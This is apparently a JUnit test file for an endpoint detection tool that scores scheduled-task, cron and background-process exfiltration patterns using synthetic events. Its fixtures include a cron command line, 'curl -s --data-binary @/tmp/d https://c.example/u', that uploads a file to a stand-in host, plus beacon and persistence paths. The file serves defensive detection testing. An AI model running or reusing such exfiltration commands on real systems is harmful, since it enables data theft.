package dev.cronhound.core.analytic;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronhound.core.channel.ChannelTunables;
import dev.cronhound.core.correlate.CorrelationTunables;
import dev.cronhound.core.correlate.EndpointCorrelator;
import dev.cronhound.core.event.Flow;
import dev.cronhound.core.event.JobAction;
import dev.cronhound.core.event.JobRun;
import dev.cronhound.core.event.JobTrigger;
import dev.cronhound.core.event.NetworkConnection;
import dev.cronhound.core.event.Origin;
import dev.cronhound.core.event.ProcessRef;
import dev.cronhound.core.event.ProcessStart;
import dev.cronhound.core.event.ScheduledJob;
import dev.cronhound.core.finding.Finding;
import dev.cronhound.core.finding.ScorePart;
import dev.cronhound.core.rhythm.RhythmTunables;
import dev.cronhound.core.tuning.DestinationAllowlist;
import dev.cronhound.core.tuning.ParentProcessBaseline;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class EndpointTransferTest {

  static final long S = 1_000_000L;
  static final long T0 = 1_767_571_200L * S;
  static final String TASK = "\\Microsoft\\Windows\\Maintenance\\CacheSync";
  static final String PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  static final String ARGS = "-NoProfile -File C:\\Users\\bob\\AppData\\Roaming\\sync.ps1";
  static final String SVCHOST = "C:\\Windows\\System32\\svchost.exe";

  /** Builds endpoint events and flows into a correlator, the way hunt feeds it. */
  static final class Estate {
    final EndpointCorrelator correlator =
        new EndpointCorrelator(CorrelationTunables.DEFAULTS, ChannelTunables.DEFAULTS, null);
    final List<Flow> flows = new ArrayList<>();
    final List<dev.cronhound.core.event.Event> events = new ArrayList<>();
    int port = 49152;

    void boot(String host) {
      events.add(new ProcessStart(T0, host, new ProcessRef("{S-" + host + "}", 1208), SVCHOST,
          "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "NT AUTHORITY\\SYSTEM", null, null,
          new ProcessRef(null, 700), "C:\\Windows\\System32\\services.exe", null, "System", null, new Origin(host, 1)));
    }

    /** A task on {@code host} running {@code image} every {@code period} s with up to {@code jitter} s of noise. */
    void task(String host, String task, String image, String args, double period, double jitter, int runs,
        String dst, long out, long in, Random rnd) {
      events.add(new ScheduledJob(T0 + S, host, task, ScheduledJob.Change.REGISTERED, "CORP\\bob", "CORP\\bob",
          List.of(new JobAction(image, args, null)), List.of(new JobTrigger("time", "2026-01-05T00:00:00", (long) period, null)),
          true, "Security 4698", "CORP\\bob", "LeastPrivilege", null, new Origin(host, 2)));
      for (int i = 0; i < runs; i++) {
        long t = T0 + (long) (((i + 1) * period + (rnd.nextDouble() * 2 - 1) * jitter) * S);
        long pid = 4000 + 4 * (i % 5);
        String guid = "{" + host + "-" + task.hashCode() + "-" + i + "}";
        events.add(new ProcessStart(t, host, new ProcessRef(guid, pid), image, image + " " + args, "CORP\\bob", null, null,
            new ProcessRef("{S-" + host + "}", 1208), SVCHOST, null, "Medium", null, new Origin(host, 10 + i)));
        events.add(new JobRun(t, host, task, JobRun.Phase.PROCESS_CREATED, null, image, pid, -1, null, new Origin(host, 10 + i)));
        connect(host, t + 2 * S, guid, pid, image, dst, out, in);
      }
    }

    void connect(String host, long t, String guid, long pid, String image, String dst, long out, long in) {
      int p = port++;
      String src = "10.20.0." + (host.hashCode() & 0x7f);
      events.add(new NetworkConnection(t, host, new ProcessRef(guid, pid), image, "CORP\\bob", "tcp", true, src, p,
          dst, 443, null, new Origin(host, t / S)));
      if (out >= 0) {
        flows.add(new Flow(t + S / 2, null, src, p, dst, 443, "tcp", null, S, out, in, "SF", new Origin("conn.log", t / S)));
      }
    }

    EndpointTransfer.Result analyze(DestinationAllowlist allow, ParentProcessBaseline baseline) {
      events.sort(java.util.Comparator.comparingLong(dev.cronhound.core.event.Event::tsMicros));
      events.forEach(correlator::accept);
      correlator.finish();
      flows.forEach(correlator.flows()::join);
      return EndpointTransfer.analyze(correlator.channels(), correlator::window,
          CorrelationTunables.DEFAULTS.scriptHostNames(), RhythmTunables.DEFAULTS, BeaconTunables.DEFAULTS,
          TransferTunables.DEFAULTS, allow, baseline, 0);
    }
  }

  private static Estate hourlyUpload() {
    Estate e = new Estate();
    e.boot("WS02");
    e.task("WS02", TASK, PS, ARGS, 3600, 300, 48, "203.0.113.45", 2_000_000, 3_000, new Random(1));
    return e;
  }

  @Test
  void anHourlyPowerShellTaskUploadingIsAn1118WithEveryPartExplained() {
    EndpointTransfer.Result r = hourlyUpload().analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty());

    assertThat(r.findings()).hasSize(1);
    Finding f = r.findings().get(0);
    assertThat(f.analytic()).isEqualTo("AN1118");
    assertThat(f.technique()).containsExactly("T1029", "T1020", "T1053.005");
    assertThat(f.host()).isEqualTo("WS02");
    assertThat(f.title()).startsWith("WS02 powershell.exe (task " + TASK + ") -> 203.0.113.45:443 every 1h");
    assertThat(f.initiator().job()).isEqualTo(TASK);
    assertThat(f.initiator().linkedBy()).startsWith("TaskScheduler 129 (pid ");
    assertThat(f.initiator().trigger()).isEqualTo("time from 2026-01-05T00:00:00, every 1h");
    assertThat(f.initiator().image()).isEqualTo(PS);
    assertThat(f.initiator().commandLine()).isEqualTo(PS + " " + ARGS);
    assertThat(f.initiator().parentChain())
        .containsExactly("[C:\\Windows\\System32\\services.exe]", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
    assertThat(f.bytesOut()).isEqualTo(96_000_000);
    assertThat(f.bytesIn()).isEqualTo(144_000);
    assertThat(f.scoreParts()).extracting(ScorePart::name).containsExactly(
        "rhythm", "lineage", "destination_consistency", "upload", "user_writable_path", "user_context",
        "first_seen_destination", "prevalence");
    assertThat(part(f, "lineage").value()).isEqualTo(1.0);
    assertThat(part(f, "lineage").note()).isEqualTo("task " + TASK + " runs powershell.exe: [services.exe] > svchost.exe > powershell.exe");
    assertThat(part(f, "upload").value()).isEqualTo(1.0);
    assertThat(part(f, "user_writable_path").note()).isEqualTo("runs from \\appdata\\");
    assertThat(f.score()).isGreaterThan(0.85);
    assertThat(f.silenceWith()).extracting(Finding.Silencer::tunable, Finding.Silencer::entry).startsWith(
        org.assertj.core.groups.Tuple.tuple("DestIPAllowlist", "203.0.113.45"),
        org.assertj.core.groups.Tuple.tuple("ParentProcessBaseline", TASK));
  }

  @Test
  void theAllowlistAndTheBaselineSilenceIt() {
    assertThat(hourlyUpload().analyze(new DestinationAllowlist(List.of("203.0.113.0/24")), ParentProcessBaseline.empty()))
        .satisfies(r -> assertThat(r.findings()).isEmpty())
        .satisfies(r -> assertThat(r.silencedByAllowlist()).isEqualTo(1));
    assertThat(hourlyUpload().analyze(DestinationAllowlist.empty(), new ParentProcessBaseline(List.of("\\microsoft\\windows\\maintenance\\*"))))
        .satisfies(r -> assertThat(r.findings()).isEmpty())
        .satisfies(r -> assertThat(r.silencedByBaseline()).isEqualTo(1));
    assertThat(hourlyUpload().analyze(DestinationAllowlist.empty(), new ParentProcessBaseline(List.of("svchost.exe>powershell.exe"))).findings())
        .isEmpty();
    assertThat(hourlyUpload().analyze(DestinationAllowlist.empty(),
            new ParentProcessBaseline(List.of("explorer.exe>powershell.exe", "backupagent.exe", "\\Corp\\*"))).findings())
        .as("entries for other parents, images and tasks leave it").hasSize(1);
  }

  @Test
  void aLongLivedBackgroundProcessBeatingOutIsAn1113() {
    Estate e = new Estate();
    String image = "C:\\Users\\dave\\AppData\\Local\\Temp\\svcupd.exe";
    e.events.add(new ProcessStart(T0, "WS04", new ProcessRef(null, 6120), image, image, "CORP\\dave", null, null,
        new ProcessRef(null, 3000), "C:\\Windows\\explorer.exe", null, "Medium", null, new Origin("sec", 1)));
    Random rnd = new Random(7);
    long t = T0 + 60 * S;
    for (int i = 0; i < 300; i++) {
      t += (long) (600 * (0.6 + 0.8 * rnd.nextDouble()) * S);
      e.connect("WS04", t, null, 6120, "\\device\\harddiskvolume2\\users\\dave\\appdata\\local\\temp\\svcupd.exe",
          "192.0.2.88", 80_000, 900);
    }
    Finding f = e.analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty()).findings().get(0);

    assertThat(f.analytic()).isEqualTo("AN1113");
    assertThat(f.technique()).containsExactly("T1020");
    assertThat(f.initiator().job()).isNull();
    assertThat(f.initiator().image()).isEqualTo(image);
    assertThat(f.initiator().parentChain()).containsExactly("[C:\\Windows\\explorer.exe]");
    assertThat(part(f, "lineage").note()).isEqualTo("one long-lived process made 100% of the connections: [explorer.exe] > svcupd.exe");
    assertThat(f.score()).isGreaterThan(0.6);
  }

  @Test
  void endpointDataAloneSaysBytesAreUnknown() {
    Estate e = new Estate();
    e.boot("WS02");
    e.task("WS02", TASK, PS, ARGS, 3600, 300, 24, "203.0.113.45", -1, -1, new Random(3));
    Finding f = e.analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty()).findings().get(0);

    assertThat(f.bytesOut()).isEqualTo(-1);
    assertThat(part(f, "upload").role()).isEqualTo(ScorePart.Role.NOT_APPLICABLE);
    assertThat(f.evidence().notes()).contains("endpoint data alone: no sensor flow joined these connections, so bytes are unknown");
    assertThat(f.technique()).containsExactly("T1029", "T1053.005");
  }

  @Test
  void theSameTaskOnEveryHostIsEstateAutomationAndScoresLow() {
    Estate e = new Estate();
    Random rnd = new Random(5);
    for (int h = 1; h <= 5; h++) {
      e.boot("WS0" + h);
      e.task("WS0" + h, "\\GoogleUpdateTaskMachineUA", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
          "/ua /installsource scheduler", 3600, 60, 48, "142.250.1.1", 2_000, 40_000, rnd);
    }
    List<Finding> all = e.analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty()).findings();

    assertThat(all).hasSize(5).allSatisfy(f -> {
      assertThat(f.score()).isLessThan(0.2);
      assertThat(part(f, "prevalence").value()).isCloseTo(0.1, org.assertj.core.data.Offset.offset(1e-9));
      assertThat(part(f, "lineage").value()).isEqualTo(0.6);
      assertThat(part(f, "upload").value()).isZero();
    });
  }

  @Test
  void onLinuxALongLivedProcessNotStartedByCronBeatingOutIsAn1113AndACronJobAn1119() {
    Estate e = new Estate();
    String beacon = "/var/tmp/.x/kworkerd";
    e.events.add(new ProcessStart(T0, "app02", new ProcessRef(null, 2210), beacon, beacon + " -d", "1001", null, "/",
        new ProcessRef(null, 2200), null, null, null, null, new Origin("audit.log", 1)));
    Random rnd = new Random(9);
    long t = T0;
    for (int i = 0; i < 200; i++) {
      t += (long) (300 * (0.6 + 0.8 * rnd.nextDouble()) * S);
      e.events.add(new NetworkConnection(t, "app02", new ProcessRef(null, 2210), beacon, "1001", null, true, null, -1,
          "192.0.2.150", 443, null, new Origin("audit.log", 10 + i)));
      e.flows.add(new Flow(t + S / 3, null, "10.30.0.14", 40000 + i, "192.0.2.150", 443, "tcp", null, S, 50_000, 700,
          "SF", new Origin("conn.log", i)));
    }
    // cron on web01: the job's shell is the CMD line's pid; curl uploads every 15 minutes
    for (int i = 0; i < 96; i++) {
      long run = T0 + (i + 1) * 900 * S;
      long sh = 5000 + 3 * i;
      e.events.add(new JobRun(run, "web01", "/dev/shm/up.sh", JobRun.Phase.PROCESS_CREATED, null, null, sh, -1,
          "www-data", new Origin("syslog", i)));
      e.events.add(new ProcessStart(run + 1000, "web01", new ProcessRef(null, sh), "/usr/bin/dash",
          "/bin/sh -c /dev/shm/up.sh", "33", null, "/", new ProcessRef(null, 4999), null, null, null, null,
          new Origin("audit.log", 1000 + i)));
      e.events.add(new ProcessStart(run + 2 * S, "web01", new ProcessRef(null, sh + 1), "/usr/bin/curl",
          "curl -s --data-binary @/tmp/d https://c.example/u", "33", null, "/", new ProcessRef(null, sh), null, null,
          null, null, new Origin("audit.log", 2000 + i)));
      e.events.add(new NetworkConnection(run + 3 * S, "web01", new ProcessRef(null, sh + 1), "/usr/bin/curl", "33", null,
          true, null, -1, "203.0.113.80", 443, null, new Origin("audit.log", 3000 + i)));
      e.flows.add(new Flow(run + 3 * S + S / 2, null, "10.30.0.11", 50000 + i, "203.0.113.80", 443, "tcp", null, S,
          900_000, 4_000, "SF", new Origin("conn.log", 500 + i)));
    }
    List<Finding> findings = e.analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty()).findings();

    Finding bg = findings.stream().filter(f -> f.host().equals("app02")).findFirst().orElseThrow();
    assertThat(bg.analytic()).isEqualTo("AN1113");
    assertThat(bg.technique()).containsExactly("T1020");
    assertThat(bg.initiator().job()).isNull();
    assertThat(bg.initiator().image()).isEqualTo(beacon);
    assertThat(bg.bytesOut()).isEqualTo(10_000_000);
    assertThat(part(bg, "user_writable_path").note()).isEqualTo("runs from /var/tmp/");

    Finding cron = findings.stream().filter(f -> f.host().equals("web01")).findFirst().orElseThrow();
    assertThat(cron.analytic()).isEqualTo("AN1119");
    assertThat(cron.technique()).containsExactly("T1029", "T1020", "T1053.003");
    assertThat(cron.initiator().job()).isEqualTo("/dev/shm/up.sh");
    assertThat(cron.initiator().linkedBy()).isEqualTo("cron CMD of parent dash (pid " + (5000 + 3 * 95) + ")");
    assertThat(cron.bytesOut()).isEqualTo(96 * 900_000L);
  }

  static ScorePart part(Finding f, String name) {
    return f.scoreParts().stream().filter(p -> p.name().equals(name)).findFirst().orElseThrow();
  }
}
